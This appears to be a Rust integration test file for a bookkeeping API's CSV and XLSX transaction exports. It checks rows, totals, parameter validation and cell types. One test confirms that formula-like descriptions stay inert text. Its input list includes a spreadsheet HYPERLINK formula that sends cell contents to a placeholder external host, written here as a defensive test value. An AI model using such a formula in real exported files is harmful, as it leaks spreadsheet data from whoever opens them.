//! Exports (DESIGN 13, issue 17): the history's CSV, read back with the `csv` crate, holds
//! exactly the rows and totals the API lists for the same filters, voids included.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;

use common::spawn_app;
use serde_json::{Value, json};

/// Every entry the API lists for `filters`, all pages, by id.
async fn listed(app: &common::TestApp, filters: &str) -> BTreeMap<String, Value> {
    let mut all = BTreeMap::new();
    for page in 1.. {
        let (_, body) = app
            .get(&format!("/transactions?limit=100&page={page}{filters}"))
            .await;
        let items = body["data"]["items"].as_array().unwrap().clone();
        if items.is_empty() {
            break;
        }
        for item in items {
            all.insert(item["id"].as_str().unwrap().to_owned(), item);
        }
    }
    all
}

/// The export's file: status, headers and the rows read back by the `csv` crate.
async fn exported(
    app: &common::TestApp,
    query: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<Vec<String>>) {
    let response = app
        .client
        .get(app.url(&format!("/transactions/export?{query}")))
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let bytes = response.bytes().await.unwrap();
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "the file starts with a UTF-8 BOM"
    );
    let separator = if query.contains("sep=%2C") {
        b','
    } else {
        b';'
    };
    let rows = csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (status, headers, rows)
}

#[tokio::test]
async fn the_history_csv_holds_every_row_and_total_the_api_lists() {
    let app = spawn_app().await;
    let mut ids = Vec::new();
    // 230 entries over three days (more than one page of the export's reads would be 1,000;
    // the API's pages are 100), a category with a semicolon and quotes in its description.
    for i in 0..230_i64 {
        let day = 6 + i % 3;
        let (status, body) = app
            .post(
                "/transactions",
                json!({
                    "type": if i % 4 == 0 { "OUT" } else { "IN" },
                    "amount": 1_000 + i,
                    "category": if i % 4 == 0 { "Bahan Baku" } else { "Penjualan" },
                    "description": format!("nasi kotak; \"pesanan\" {i}"),
                    "occurred_at": format!("2025-12-0{day}T0{}:15:00.000Z", i % 10),
                }),
            )
            .await;
        assert_eq!(status, 201, "{body}");
        ids.push(body["data"]["id"].as_str().unwrap().to_owned());
    }
    let (status, _) = app
        .post(
            &format!("/transactions/{}/void", ids[1]),
            json!({"reason": "salah"}),
        )
        .await;
    assert_eq!(status, 201);

    for (filters, query) in [
        ("", ""),
        (
            "&from=2025-12-07&to=2025-12-08",
            "from=2025-12-07&to=2025-12-08",
        ),
        ("&type=OUT", "type=OUT&sep=%2C&lang=en"),
    ] {
        let api = listed(&app, filters).await;
        let (status, headers, rows) = exported(&app, query).await;
        assert_eq!(status, 200);
        assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
        let disposition = headers["content-disposition"].to_str().unwrap().to_owned();
        assert!(disposition.contains("riwayat_"), "{disposition}");
        let header = &rows[0];
        let english = query.contains("lang=en");
        assert_eq!(
            header[0],
            if english {
                "Business date"
            } else {
                "Tanggal usaha"
            }
        );
        let body = &rows[1..];
        assert_eq!(body.len(), api.len(), "{query}: one row per listed entry");
        // Each row is the API's entry: id, amount, category, description, type, void link.
        let mut total_in = 0_i64;
        let mut total_out = 0_i64;
        for row in body {
            let entry = &api[&row[11]];
            assert_eq!(row[5], entry["amount"].as_i64().unwrap().to_string());
            assert_eq!(row[4], entry["category"].as_str().unwrap());
            assert_eq!(row[7], entry["description"].as_str().unwrap());
            assert_eq!(row[12], entry["reverses_id"].as_str().unwrap_or(""));
            let cancelled = !row[10].is_empty();
            assert_eq!(
                cancelled,
                !entry["reverses_id"].is_null() || !entry["voided_by"].is_null(),
                "{row:?}"
            );
            if !cancelled {
                match entry["type"].as_str().unwrap() {
                    "IN" => total_in += entry["amount"].as_i64().unwrap(),
                    _ => total_out += entry["amount"].as_i64().unwrap(),
                }
            }
        }
        let (_, totals) = app
            .get(&format!(
                "/transactions/totals?{}",
                filters.trim_start_matches('&')
            ))
            .await;
        assert_eq!(totals["data"]["total_in"], total_in, "{query}");
        assert_eq!(totals["data"]["total_out"], total_out, "{query}");
    }
}

#[tokio::test]
async fn a_bad_export_is_a_4xx_envelope_naming_the_parameter() {
    let app = spawn_app().await;
    for (query, field) in [
        ("format=pdf", "format"),
        ("format=XLSX", "format"),
        ("sep=%7C", "sep"),
        ("lang=fr", "lang"),
        ("from=2005-01-01&to=2025-12-31", "to"),
        ("from=2025-13-01", "from"),
        ("type=BOTH", "type"),
        ("page=2", "page"),
        ("color=red", "color"),
    ] {
        let (status, body) = app.get(&format!("/transactions/export?{query}")).await;
        assert_eq!(status, 400, "{query}: {body}");
        assert_eq!(body["error"]["code"], "validation_failed", "{query}");
        let fields: Vec<&str> = body["error"]["details"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| d["field"].as_str().unwrap())
            .collect();
        assert!(fields.contains(&field), "{query}: {fields:?}");
    }
    // The list itself does not take the export's parameters.
    let (status, _) = app.get("/transactions?format=csv").await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn the_history_xlsx_holds_every_row_as_numbers_and_dates() {
    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
    let app = spawn_app().await;
    for i in 0..40_i64 {
        let (status, body) = app
            .post(
                "/transactions",
                json!({
                    "type": if i % 3 == 0 { "OUT" } else { "IN" },
                    "amount": 1_500_000 + i,
                    "category": "Penjualan",
                    "description": format!("katering {i}"),
                    "occurred_at": format!("2025-12-0{}T0{}:15:00.000Z", 6 + i % 3, i % 10),
                }),
            )
            .await;
        assert_eq!(status, 201, "{body}");
    }
    let api = listed(&app, "&from=2025-12-07").await;
    let response = app
        .client
        .get(app.url("/transactions/export?format=xlsx&from=2025-12-07"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let disposition = response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.ends_with("_2025-12-07_semua.xlsx\""),
        "{disposition}"
    );
    let bytes = response.bytes().await.unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let sheet = book.worksheet_range("Riwayat").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows[0][5], Data::String("Jumlah (Rp)".into()));
    assert_eq!(rows.len() - 1, api.len(), "one row per listed entry");
    for row in &rows[1..] {
        let Data::String(id) = &row[11] else {
            panic!("the id is text: {row:?}")
        };
        let entry = &api[id];
        // The amount is a number, not text; the dates are dates.
        assert_eq!(
            row[5],
            Data::Float(entry["amount"].as_f64().unwrap()),
            "{row:?}"
        );
        assert!(matches!(row[0], Data::DateTime(_)), "{row:?}");
        assert!(matches!(row[1], Data::DateTime(_)), "{row:?}");
    }
}

/// What a cashier types never runs as a formula when the accountant opens the file: in CSV a
/// description a spreadsheet would take for one gets an apostrophe in front; in XLSX it is a
/// text cell exactly as typed. Ordinary text is untouched.
#[tokio::test]
async fn a_description_that_looks_like_a_formula_stays_text_in_the_files() {
    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
    let app = spawn_app().await;
    let typed = [
        "=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
        "+62 812 3456",
        "-beli gas",
        "@SUM(A1:A9)",
        "nasi = 5",
    ];
    for (i, description) in typed.iter().enumerate() {
        let (status, body) = app
            .post(
                "/transactions",
                json!({
                    "type": "IN",
                    "amount": 10_000,
                    "category": "Penjualan",
                    "description": description,
                    "occurred_at": format!("2025-12-06T0{i}:15:00.000Z"),
                }),
            )
            .await;
        assert_eq!(status, 201, "{body}");
    }
    let (status, _, rows) = exported(&app, "").await;
    assert_eq!(status, 200);
    let mut in_csv: Vec<&str> = rows[1..].iter().map(|r| r[7].as_str()).collect();
    in_csv.sort_unstable();
    assert_eq!(
        in_csv,
        [
            "'+62 812 3456",
            "'-beli gas",
            "'=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
            "'@SUM(A1:A9)",
            "nasi = 5",
        ]
    );

    let bytes = app
        .client
        .get(app.url("/transactions/export?format=xlsx"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let sheet = book.worksheet_range("Riwayat").unwrap();
    let mut in_xlsx: Vec<String> = sheet
        .rows()
        .skip(1)
        .map(|r| match &r[7] {
            Data::String(s) => s.clone(),
            other => panic!("a description is a text cell: {other:?}"),
        })
        .collect();
    in_xlsx.sort_unstable();
    let mut as_typed: Vec<String> = typed.iter().map(|s| (*s).to_owned()).collect();
    as_typed.sort_unstable();
    assert_eq!(in_xlsx, as_typed);
    let formulas = book.worksheet_formula("Riwayat").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell of the file is a formula"
    );
}
